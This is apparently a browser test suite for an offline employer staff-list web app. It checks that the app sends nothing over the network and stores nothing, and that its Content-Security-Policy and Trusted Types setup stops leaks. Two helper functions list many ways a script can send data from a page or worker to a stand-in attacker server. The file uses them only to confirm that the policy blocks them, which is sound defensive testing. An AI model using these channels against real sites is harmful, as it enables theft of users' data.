// The list of an employer stays on the employer's computer. And the control: an attacker's script, in the page or in the worker beside it, gets nothing
// out under our policy, while the same attack without the policy arrives at the attacker's server.
import assert from "node:assert/strict";
import { readFile } from "node:fs/promises";
import path from "node:path";
import { after, before, test } from "node:test";
import { startAttacker, startHost, visitAlone as visit } from "./support/embedding.mjs";
import { csv, employer, HEADS, rowsFor, STAFF } from "./support/employer.mjs";
import { DIST, startSite } from "./support/site.mjs";
import { becomes } from "./support/waiting.mjs";

let site;
let host;
let attacker;
before(async () => {
  site = await startSite();
  host = await startHost();
  attacker = await startAttacker({ datagrams: [], streams: [] });
});
after(async () => {
  await Promise.all([host.stop(), attacker.stop()]);
  await site.stop();
});

const list = (lang) =>
  csv([
    HEADS[lang],
    ...rowsFor(lang, [
      ["Ans", "1990-03-01", "5000"],
      ["Bo", "2000-05-06", "x"],
    ]),
  ]);

for (const [lang, place] of Object.entries(STAFF))
  test(`${lang}: file, list, correction, person, another day and taking away with the network cut: no request, no cookie, no storage`, async () => {
    const page = await site.open(place);
    const me = employer(page, lang);
    await becomes(async () => page.workers().length, 1);
    await page.waitForLoadState("networkidle");
    const tried = [];
    page.on("request", (request) => tried.push(request.url()));
    page.on("websocket", (socket) => tried.push(socket.url()));
    const served = site.requests.length;
    await page.context().setOffline(true);
    await me.give(list(lang));
    await page.getByRole("textbox", { name: /^(Regel|Line) 3/ }).fill("4357");
    await page.keyboard.press("Enter");
    await becomes(me.outcomes, { Ans: me.words.no, Bo: me.words.provided });
    await me.table.getByRole("button", { name: "Ans" }).click();
    await me.dialog.waitFor();
    await me.dialog.locator("summary").evaluateAll((all) => all.forEach((one) => one.click()));
    await page.keyboard.press("Escape");
    await me.unfold(me.words.reading);
    await page.getByRole("button", { name: me.words.allTrue }).click();
    await becomes(me.outcomes, { Ans: me.words.no, Bo: me.words.yes });
    await page.getByLabel(me.words.day).selectOption(me.words.otherDay);
    await page.getByLabel(me.words.whichDay).fill("2025-12-31");
    await page.getByRole("heading", { name: /2 .* 31 (december|December) 2025/ }).waitFor();
    // A file that is saved is made here: its address leads to this page and nowhere else.
    for (const button of [me.words.csv, me.words.xlsx, me.words.templateXlsx]) assert.ok((await me.takes(button)).bytes.length > 0);
    await page.getByRole("button", { name: me.words.example }).click();
    await page.getByRole("heading", { name: /^200 / }).waitFor();
    const ofOthers = tried.filter((url) => !url.startsWith(`blob:${site.base}/`));
    assert.deepEqual(ofOthers, []);
    assert.equal(site.requests.length, served);
    assert.deepEqual(await page.context().cookies(), []);
    assert.equal(page.context().serviceWorkers().length, 0);
    const kept = async () => [
      localStorage.length,
      sessionStorage.length,
      (await indexedDB.databases()).length,
      document.cookie,
      (await caches.keys()).length,
      [...(await navigator.storage.getDirectory().then((folder) => Array.fromAsync(folder.keys())))].length,
    ];
    assert.deepEqual(await page.evaluate(kept), [0, 0, 0, "", 0, 0]);
    assert.deepEqual(page.complaints, []);
    await page.context().close();
  });

/** Every way out of a worker, each with its name in the address. */
function attackFromWorker(to) {
  const ways = {
    fetch: () => {
      fetch(`${to}/fetch`, { mode: "no-cors" }).catch(() => null);
    },
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("POST", `${to}/xhr`);
      request.send("secret");
    },
    websocket: () => new WebSocket(`${to.replace("http", "ws")}/websocket`),
    eventsource: () => new EventSource(`${to}/eventsource`),
    imported: () => importScripts(`${to}/imported`),
    module: () => {
      import(`${to}/module`).catch(() => null);
    },
    nested: () => new Worker(URL.createObjectURL(new Blob([`fetch("${to}/nested", { mode: "no-cors" })`]))),
  };
  for (const way of Object.values(ways)) {
    try {
      way();
    } catch {
      /* Refused at once. */
    }
  }
  return Object.keys(ways);
}

/** Ways out of the page that begin with a worker; all the others are those of every page. */
function attackFromPage(to) {
  const ways = {
    fetch: () => {
      fetch(`${to}/fetch`, { mode: "no-cors" }).catch(() => null);
    },
    image: () => {
      new Image().src = `${to}/image`;
    },
    websocket: () => new WebSocket(`${to.replace("http", "ws")}/websocket`),
    blob: () => new Worker(URL.createObjectURL(new Blob([`fetch("${to}/blob", { mode: "no-cors" })`]))),
    data: () => new Worker(`data:text/javascript,fetch("${to}/data", { mode: "no-cors" })`),
    shared: () => new SharedWorker(URL.createObjectURL(new Blob([`fetch("${to}/shared", { mode: "no-cors" })`]))),
  };
  for (const way of Object.values(ways)) {
    try {
      way();
    } catch {
      /* Refused at once. */
    }
  }
  return Object.keys(ways);
}

/** The worker of a page, once it stands. */
async function workerOf(page) {
  await becomes(async () => page.workers().length, 1);
  return page.workers()[0];
}

const POLICY = /<meta http-equiv="Content-Security-Policy"[^>]*>\n?/;

/** The page and its script on a host that sends no headers. */
async function putOn(folder, html) {
  host.putRaw(`/${folder}/${STAFF.nl}/`, html);
  for (const [, name] of html.matchAll(/(?:src|href)="\.\.\/\.\.\/(assets\/[^"]+)"/g))
    host.putRaw(`/${folder}/${name}`, await readFile(path.join(DIST, name)), {
      "Content-Type": name.endsWith(".js") ? "text/javascript" : "text/css",
    });
  return `${host.base}/${folder}/${STAFF.nl}/`;
}

const ownHtml = () => readFile(path.join(DIST, STAFF.nl, "index.html"), "utf8");

test("an attacker's script in the page gets nothing out, also not by a worker of its own", async () => {
  const page = await visit(site, `${site.base}/${STAFF.nl}/`);
  const { arrived } = await attacker.arrivals(() => page.evaluate(attackFromPage, attacker.base));
  assert.deepEqual(arrived, []);
  await page.context().close();
});

test("nor where the host sends no headers: the page carries its policy itself", async () => {
  const html = await ownHtml();
  assert.match(html, POLICY);
  const page = await visit(site, await putOn("meta", html));
  const { arrived } = await attacker.arrivals(() => page.evaluate(attackFromPage, attacker.base));
  assert.deepEqual(arrived, []);
  await page.context().close();
});

test("the control: without the policy every way out of the page leaks", async () => {
  const page = await visit(site, await putOn("none", (await ownHtml()).replace(POLICY, "")));
  const { tried, arrived } = await attacker.arrivals(
    () => page.evaluate(attackFromPage, attacker.base),
    (ways) => ways,
  );
  assert.deepEqual(arrived, [...tried].sort());
  await page.context().close();
});

test("an attacker's script in the worker gets nothing out", async () => {
  const page = await visit(site, `${site.base}/${STAFF.nl}/`);
  const worker = await workerOf(page);
  const { arrived } = await attacker.arrivals(() => worker.evaluate(attackFromWorker, attacker.base));
  assert.deepEqual(arrived, []);
  await page.context().close();
});

test("the control, and a known limit: a worker has the policy of the answer that brought its script, so without our headers every way out of it leaks", async () => {
  const page = await visit(site, await putOn("worker", await ownHtml()));
  const worker = await workerOf(page);
  const { tried, arrived } = await attacker.arrivals(
    () => worker.evaluate(attackFromWorker, attacker.base),
    (ways) => ways,
  );
  assert.deepEqual(arrived, [...tried].sort());
  await page.context().close();
});

test("the one policy of trusted types lets nothing become a worker but the page's own script, and no other can be made", async () => {
  const page = await visit(site, "about:blank");
  // Keeps the policy that the page makes, as a script that came first could.
  await page.addInitScript(() => {
    const { createPolicy } = TrustedTypePolicyFactory.prototype;
    TrustedTypePolicyFactory.prototype.createPolicy = function (...given) {
      window.kept = createPolicy.apply(this, given);
      return window.kept;
    };
  });
  await page.goto(`${site.base}/${STAFF.nl}/`);
  const own = await page.evaluate(() => document.querySelector("script[src]").src);
  const made = (address) =>
    page.evaluate((one) => {
      try {
        return String(window.kept.createScriptURL(one));
      } catch (error) {
        return error.name;
      }
    }, address);
  assert.equal(await made(own), own);
  for (const other of [
    `${attacker.base}/script`,
    `${own}#`,
    `${own}?`,
    `${site.base}/embed/embed.js`,
    "blob:x",
    "data:text/javascript,1",
    "",
  ])
    assert.equal(await made(other), "TypeError", other);
  const [again, another, bare] = await page.evaluate((address) => {
    const trial = (run) => {
      try {
        run();
        return "done";
      } catch (error) {
        return error.name;
      }
    };
    return [
      trial(() => trustedTypes.createPolicy("staff-worker", { createScriptURL: (one) => one })),
      trial(() => trustedTypes.createPolicy("another", { createScriptURL: (one) => one })),
      trial(() => new Worker(address)),
    ];
  }, own);
  assert.deepEqual([again, another, bare], ["TypeError", "TypeError", "TypeError"]);
  await page.context().close();
});

for (const place of Object.values(STAFF))
  test(`${place}: all that is loaded comes from the site, in at most five requests`, async () => {
    const page = await visit(site, "about:blank");
    const asked = [];
    page.on("request", (request) => asked.push(request.url()));
    await page.goto(`${site.base}/${place}/`);
    await workerOf(page);
    await page.waitForLoadState("networkidle");
    assert.deepEqual([...new Set(asked.map((url) => new URL(url).origin))], [site.base]);
    // The page, two style sheets, the script and the same script for the worker.
    assert.ok(asked.length <= 5, asked.join());
    await page.context().close();
  });
